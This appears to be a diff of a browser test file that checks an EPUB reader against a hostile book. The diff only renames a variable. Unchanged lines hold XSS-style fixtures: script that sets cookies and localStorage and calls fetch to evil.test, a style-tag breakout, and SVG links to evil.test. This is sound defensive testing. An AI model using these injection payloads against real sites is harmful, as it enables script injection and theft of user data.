@@ -2,7 +2,7 @@ import { expect, test } from '../support/journey.ts';
 import { browserServer, type BrowserServer } from '../support/browser-server.ts';
 import { makeEpub } from '../support/epub-maker.ts';
 
-let house: BrowserServer;
+let server: BrowserServer;
 let book = 0;
 
 const RUN = "parent.hacked=1;top.hacked=1;document.cookie='hacked=1';localStorage.setItem('hacked','1');fetch('https://evil.test/f')";
@@ -20,8 +20,8 @@ const BROKEN_OUT = `&lt;/style&gt;&lt;img id="planted" src="/prod-api/captchaIma
 const FRAMED = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>框</title><style>p{}<style>q{}</style>${BROKEN_OUT}</style></head><body><p>框里</p></body></html>`;
 
 test.beforeAll(async () => {
-  house = await browserServer();
-  book = await house.publish(
+  server = await browserServer();
+  book = await server.publish(
     await makeEpub({
       title: '险书',
       chapters: { 'c1.xhtml': HOSTILE, 'c2.xhtml': '<p>二</p>' },
@@ -34,7 +34,7 @@ test.beforeAll(async () => {
     }),
   );
 });
-test.afterAll(() => house?.close());
+test.afterAll(() => server?.close());
 
 test('a hostile book runs nothing, calls nobody and takes nothing, in the reader and by its bare address', async ({ page, context }) => {
   const asked: string[] = [];
@@ -44,7 +44,7 @@ test('a hostile book runs nothing, calls nobody and takes nothing, in the reader
     dialogs.push(dialog.message());
     void dialog.dismiss();
   });
-  await page.goto(`${house.origin}/cms/main/epubRead?publishId=${book}`);
+  await page.goto(`${server.origin}/cms/main/epubRead?publishId=${book}`);
   const inside = page.frameLocator('iframe[data-shown]');
   await expect(inside.locator('#text')).toContainText('正文');
   await expect(inside.locator('body')).toContainText('替代文字');
@@ -60,17 +60,17 @@ test('a hostile book runs nothing, calls nobody and takes nothing, in the reader
   await page.waitForTimeout(500);
   const reader = page.url();
   expect(await page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
-  const { data } = (await house.call(null, 'GET', `/cms/publish/getInfo/${book}`)) as { data: { editionId: number } };
+  const { data } = (await server.call(null, 'GET', `/cms/publish/getInfo/${book}`)) as { data: { editionId: number } };
   for (const path of ['OPS/c1.xhtml', 'OPS/pic.svg']) {
-    expect((await page.goto(`${house.origin}/books/${book}/${data.editionId}/${path}`))?.status()).toBe(200);
+    expect((await page.goto(`${server.origin}/books/${book}/${data.editionId}/${path}`))?.status()).toBe(200);
     await page.waitForTimeout(200);
   }
   expect(asked.filter((url) => url.includes('from=book'))).toEqual([]);
   expect(reader).toContain('/cms/main/epubRead');
-  expect(asked.filter((url) => !url.startsWith(house.origin) && !/^(data|blob|about):/.test(url))).toEqual([]);
+  expect(asked.filter((url) => !url.startsWith(server.origin) && !/^(data|blob|about):/.test(url))).toEqual([]);
   expect(asked.filter((url) => url.includes('/logout'))).toEqual([]);
   expect(dialogs).toEqual([]);
-  await page.goto(house.origin);
+  await page.goto(server.origin);
   expect(await page.evaluate(() => [localStorage.getItem('hacked'), document.cookie.includes('hacked')])).toEqual([null, false]);
 });
 
@@ -84,8 +84,8 @@ const DRAWN_LINKS = `<p><svg ${SVG} id="old"><a xlink:href="https://evil.test/ol
 test('a link in a drawing, a copy of one and the middle button lead out no more than a tap does: by a question', async ({ page, context }) => {
   const asked: string[] = [];
   context.on('request', (request) => request.url().includes('evil.test') && asked.push(request.url()));
-  const drawn = await house.publish(await makeEpub({ title: '画里的路', chapters: { 'c1.xhtml': DRAWN_LINKS, 'c2.xhtml': '<p>画的另一边</p>' } }));
-  await page.goto(`${house.origin}/cms/main/epubRead?publishId=${drawn}`);
+  const drawn = await server.publish(await makeEpub({ title: '画里的路', chapters: { 'c1.xhtml': DRAWN_LINKS, 'c2.xhtml': '<p>画的另一边</p>' } }));
+  await page.goto(`${server.origin}/cms/main/epubRead?publishId=${drawn}`);
   const inside = page.frameLocator('iframe[data-shown]');
   const question = page.getByRole('dialog', { name: '离开这本书？' });
   // What a link asks is asked by the house.
